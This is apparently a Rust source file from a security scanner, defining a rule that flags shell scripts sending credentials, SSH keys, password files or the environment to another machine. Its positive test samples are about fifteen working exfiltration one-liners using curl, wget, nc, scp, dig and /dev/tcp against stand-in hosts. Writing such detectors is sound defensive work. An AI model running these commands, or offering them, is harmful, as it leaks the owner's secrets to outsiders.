//! Credentials, host secrets or the environment leave the machine.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::language::Language;
use crate::scan::operation::{Act, Operation, Origins};
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::scan::sensitive;

/// The rule.
pub static RULE: Rule = Rule {
    id: "shell-sensitive-exfil",
    title: "Sends credentials or host secrets over the network",
    severity: Severity::Blocker,
    confidence: Confidence::High,
    why: "The content of the file, or of the environment, was followed into what is sent to another machine.",
    fix: "Remove it; send only what the task is about.",
    references: &["CWE-200", "ATT&CK T1552.001"],
    hits: &[
        Sample::File(
            "a.sh",
            "curl --data-binary @/etc/passwd https://collect.example.com/in\n",
        ),
        Sample::File(
            "a.sh",
            "curl -F f=@$HOME/.aws/credentials https://collect.example.com/in\n",
        ),
        Sample::File(
            "a.sh",
            "cat ~/.ssh/id_rsa | base64 | curl -d @- https://collect.example.com\n",
        ),
        Sample::File(
            "a.sh",
            "K=$(cat /etc/shadow)\ncurl -d \"k=$K\" https://collect.example.com\n",
        ),
        Sample::File("a.sh", "tar czf - ~/.ssh | nc 192.0.2.7 9000\n"),
        Sample::File(
            "a.sh",
            "tar czf /tmp/k.tgz ~/.gnupg; curl -T /tmp/k.tgz https://collect.example.com\n",
        ),
        Sample::File("a.sh", "scp -q ~/.kube/config drop@192.0.2.7:\n"),
        Sample::File("a.sh", "nc 192.0.2.7 9000 < /etc/passwd\n"),
        Sample::File(
            "a.sh",
            "dig $(head -c 20 /etc/passwd | xxd -p).collect.example.com\n",
        ),
        Sample::File(
            "a.sh",
            "env | curl -X POST -d @- https://collect.example.com\n",
        ),
        Sample::File(
            "a.sh",
            "wget --post-file=/etc/passwd https://collect.example.com\n",
        ),
        Sample::File(
            "a.sh",
            "for f in a ~/.ssh/*; do curl -T \"$f\" https://collect.example.com; done\n",
        ),
        Sample::File(
            "a.sh",
            "for f in $(find ~/.ssh -type f); do curl -F f=@$f https://collect.example.com; done\n",
        ),
        Sample::File(
            "a.sh",
            "while read -r l; do curl https://collect.example.com/$l; done < /etc/passwd\n",
        ),
        Sample::File("a.sh", "cat /etc/passwd > /dev/tcp/192.0.2.7/80\n"),
    ],
    misses: &[
        Sample::File(
            "a.sh",
            "# never touches /etc/passwd\ncurl -fsS https://api.example.com/v1/ping\n",
        ),
        Sample::File(
            "a.sh",
            "ssh -i ~/.ssh/id_ed25519 me@example.com uptime\nscp -i ~/.ssh/key a.txt me@example.com:\n",
        ),
        Sample::File(
            "a.sh",
            "grep -q '^demo:' /etc/passwd || exit 1\ncurl https://api.example.com\n",
        ),
        Sample::File("a.sh", "curl -d @/etc/passwd http://localhost:8080\n"),
        Sample::File(
            "a.sh",
            "curl -H \"Authorization: Bearer $API_KEY\" -d @body.json https://api.example.com\n",
        ),
        Sample::File(
            "a.sh",
            "curl --netrc-file ~/.netrc https://api.example.com\n",
        ),
        Sample::File(
            "a.sh",
            "T=$(curl -X PUT http://169.254.169.254/latest/api/token)\ncurl -H \"X-T: $T\" http://169.254.169.254/latest\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, report: &mut Reporter<'_>) {
    if !matches!(unit.language, Language::Shell | Language::PowerShell) {
        return;
    }
    for operation in unit
        .lowered
        .operations
        .iter()
        .filter(|operation| leaks(operation).is_some())
    {
        let Act::Contact { payload, .. } = &operation.act else {
            continue;
        };
        let raised = report.raise_flow(operation.span, &payload.way);
        if leaks(operation) == Some(Origins::ENVIRONMENT) {
            raised.message("Sends the whole environment over the network");
        }
    }
}

/// What an operation sends that it must not.
fn leaks(operation: &Operation) -> Option<Origins> {
    let Act::Contact {
        address,
        payload,
        local: false,
    } = &operation.act
    else {
        return None;
    };
    // Talking to a metadata service is not sending to a stranger.
    let service = address.text.as_deref().and_then(sensitive::first);
    if service.is_some() {
        return None;
    }
    [Origins::SENSITIVE, Origins::ENVIRONMENT]
        .into_iter()
        .find(|origin| payload.origins.has(*origin))
}
